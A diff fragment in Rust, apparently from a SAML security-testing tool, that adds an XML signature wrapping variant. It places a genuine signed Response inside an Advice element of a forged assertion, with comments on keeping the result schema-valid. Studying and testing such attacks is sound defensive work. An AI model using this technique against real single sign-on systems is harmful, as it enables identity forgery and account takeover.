@@ -265,6 +265,30 @@ fn transform(
             evil.children.insert(at, Node::Element(advice));
             root.children[i] = Node::Element(evil);
         }
+        Attack::ResponseInAdvice => {
+            let (orig, sig) = without_signature(root);
+            let sig = sig.ok_or_else(|| needs(attack, "a signed Response"))?;
+            let mut evil = ctx.evil(root, Some(&new_id()))?;
+            // Schema order: Issuer, Signature, Extensions, Status, Assertion.
+            evil.insert_after_child(NS_SAML, "Issuer", sig);
+            let i = evil
+                .child_index(|e| e.is(NS_SAML, "Assertion"))
+                .ok_or_else(|| needs(attack, "an assertion"))?;
+            let assertion = evil
+                .element_at_mut(i)
+                .ok_or_else(|| Error::Xml("expected an element".into()))?;
+            // A fresh ID: the genuine assertion, inside the genuine Response, keeps its own.
+            assertion.set_attr("ID", &new_id());
+            // Advice takes any element of another namespace, so a samlp:Response is
+            // schema-valid there. Schema order: Issuer, Signature, Subject, Conditions, Advice.
+            let advice = Element::new(Some("saml"), "Advice", Some(NS_SAML)).with_child(orig);
+            let at = assertion
+                .child_index(|e| e.is(NS_SAML, "Conditions"))
+                .or_else(|| assertion.child_index(|e| e.is(NS_SAML, "Subject")))
+                .map_or(assertion.children.len(), |c| c + 1);
+            assertion.children.insert(at, Node::Element(advice));
+            *root = evil;
+        }
         Attack::CommentInDigestValue => {
             // The element that carries the identity: the signed assertion, else the Response.
             let target: &mut Element = match root
